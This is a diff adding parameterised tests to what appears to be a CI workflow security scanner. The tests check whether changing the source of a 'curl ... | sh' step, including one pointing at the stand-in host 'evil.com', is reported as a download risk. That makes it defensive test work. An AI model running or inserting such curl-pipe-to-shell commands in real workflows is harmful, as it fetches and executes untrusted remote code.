@@ -190,3 +190,24 @@ test('one kind of risk in several steps that stay is one finding', async () => {
   });
   expect(findings.map(({ outcome, also }) => `${outcome} +${also.length}`)).toEqual(['injection +1']);
 });
+
+const piping = (from: string): string => script('a', `curl https://${from}/i.sh | sh`);
+const OF_ACME = 'raw.githubusercontent.com/acme/tool/main';
+const DOWNLOAD = ['config/workflow-script-risk download'];
+
+test.each([
+  ['one of somebody else', [piping(OF_ACME)], [piping('evil.com')], DOWNLOAD],
+  ['one of another owner', [piping(OF_ACME)], [piping(OF_ACME.replace('acme', 'beta'))], DOWNLOAD],
+  ['another of the same owner', [piping(OF_ACME)], [piping(`${OF_ACME}/sub`)], []],
+  ['the same beside another command', [piping(OF_ACME)], [piping(OF_ACME).replace("'curl", "'make; curl")], []],
+  ['the same in a step of another name', [piping(OF_ACME)], [piping(OF_ACME).replace('a,', 'b,')], []],
+  [
+    'one of somebody else in a new step',
+    [piping(OF_ACME)],
+    [piping(OF_ACME), piping('evil.com').replace('a,', 'b,')],
+    DOWNLOAD,
+  ],
+  ['another of whomever', [piping('evil.com')], [piping('example.com')], []],
+])('a script that pipes a file of one owner into a shell now pipes %s', async (_, before, after, expected) => {
+  expect(await said(workflow(...before), workflow(...after))).toEqual(expected);
+});
